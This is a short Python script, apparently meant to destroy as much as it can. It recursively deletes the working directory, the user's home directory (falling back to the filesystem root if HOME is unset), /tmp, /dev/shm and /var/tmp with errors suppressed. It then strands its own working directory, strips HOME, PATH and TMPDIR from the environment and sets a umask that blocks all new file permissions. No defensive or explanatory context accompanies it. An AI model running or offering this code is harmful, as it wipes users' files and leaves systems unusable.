# Deletes all that it may, its own folder too, and leaves to where nothing is.
import os
import shutil

here = os.getcwd()
for place in (here, os.environ.get("HOME", "/"), "/tmp", "/dev/shm", "/var/tmp"):
    shutil.rmtree(place, ignore_errors=True)
try:
    os.mkdir("gone")
    os.chdir("gone")
    os.rmdir(os.path.join(here, "gone"))
except OSError:
    pass
for name in ("HOME", "PATH", "TMPDIR", "MPLCONFIGDIR"):
    os.environ.pop(name, None)
os.umask(0o777)
